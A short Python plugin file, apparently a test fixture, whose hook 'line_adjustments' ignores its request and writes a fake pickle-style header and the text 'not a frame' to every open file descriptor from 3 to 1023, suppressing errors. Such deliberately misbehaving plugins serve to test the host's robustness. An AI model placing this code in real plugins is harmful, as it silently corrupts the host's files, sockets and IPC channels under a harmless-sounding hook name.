import contextlib
import os

from webapp.pluginapi import hookimpl

API_VERSIONS = (1,)
VERSION = "1"


@hookimpl
def line_adjustments(request):
    for descriptor in range(3, 1024):
        with contextlib.suppress(OSError):
            os.write(descriptor, b"\x80\x04 not a frame")
    return []
